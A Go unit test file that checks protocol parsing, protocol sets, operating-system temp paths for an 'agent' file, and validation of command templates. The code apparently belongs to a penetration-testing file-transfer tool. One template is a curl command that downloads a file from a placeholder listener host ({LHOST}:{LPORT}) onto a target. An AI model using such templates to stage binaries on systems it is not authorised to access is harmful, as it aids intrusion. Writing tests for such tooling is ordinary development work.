package models

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestParseProtocol(t *testing.T) {
	for _, in := range []string{"http", "HTTP", " Https ", "webdavs", "scp"} {
		p, err := ParseProtocol(in)
		require.NoError(t, err, in)
		assert.NotEmpty(t, p)
	}

	_, err := ParseProtocol("gopher")
	assert.Error(t, err)
}

func TestProtocolProperties(t *testing.T) {
	tests := []struct {
		p         Protocol
		scheme    string
		port      string
		encrypted bool
		templated bool
	}{
		{ProtocolHTTP, "http", "80", false, true},
		{ProtocolHTTPS, "https", "443", true, true},
		{ProtocolFTP, "ftp", "21", false, true},
		{ProtocolFTPS, "ftps", "21", true, false},
		{ProtocolSMB, "smb", "445", false, true},
		{ProtocolSCP, "scp", "22", false, true},
		{ProtocolWebDAV, "webdav", "80", false, false},
		{ProtocolWebDAVS, "webdavs", "443", true, false},
	}
	for _, tt := range tests {
		t.Run(tt.p.String(), func(t *testing.T) {
			assert.Equal(t, tt.scheme, tt.p.Scheme())
			assert.Equal(t, tt.port, tt.p.DefaultPort())
			assert.Equal(t, tt.encrypted, tt.p.Encrypted())
			assert.Equal(t, tt.templated, tt.p.Templated())
		})
	}
}

func TestProtocolSet(t *testing.T) {
	s := NewProtocolSet(ProtocolSMB, ProtocolHTTP, ProtocolHTTP, Protocol("NOPE"))
	assert.Equal(t, 2, s.Len())
	assert.True(t, s.Has(ProtocolHTTP))
	assert.True(t, s.Has(ProtocolSMB))
	assert.False(t, s.Has(ProtocolFTP))
	assert.False(t, s.Has(Protocol("NOPE")))
	assert.Equal(t, []Protocol{ProtocolHTTP, ProtocolSMB}, s.List())
	assert.Equal(t, "HTTP, SMB", s.String())

	var empty ProtocolSet
	assert.Zero(t, empty.Len())
	assert.Empty(t, empty.List())
}

func TestOperatingSystem(t *testing.T) {
	os, err := ParseOperatingSystem("Linux")
	require.NoError(t, err)
	assert.Equal(t, Linux, os)
	assert.Equal(t, "/tmp/agent", os.TempPath("agent"))

	os, err = ParseOperatingSystem("WINDOWS")
	require.NoError(t, err)
	assert.Equal(t, `C:\Windows\Temp\agent.exe`, os.TempPath("agent.exe"))
	assert.Equal(t, "Windows", os.Title())

	_, err = ParseOperatingSystem("darwin")
	assert.Error(t, err)
}

func TestTemplateValidate(t *testing.T) {
	ok := NewTemplate("curl", "curl {PROTO}://{LHOST}:{LPORT}/{INPUTFILE} -o {OUTPUTFILE}", "", ProtocolHTTP)
	assert.NoError(t, ok.Validate())

	assert.Error(t, NewTemplate("", "x", "", ProtocolHTTP).Validate())
	assert.Error(t, NewTemplate("none", "x", "").Validate())
	assert.Error(t, NewTemplate("dav", "x", "", ProtocolWebDAV).Validate())
	assert.Error(t, NewTemplate("typo", "curl {LHOTS}", "", ProtocolHTTP).Validate())

	// lower-case braces are shell syntax, not placeholders
	assert.NoError(t, NewTemplate("shell", "for f in ${files}; do echo {x}; done {LHOST}", "", ProtocolSMB).Validate())
}
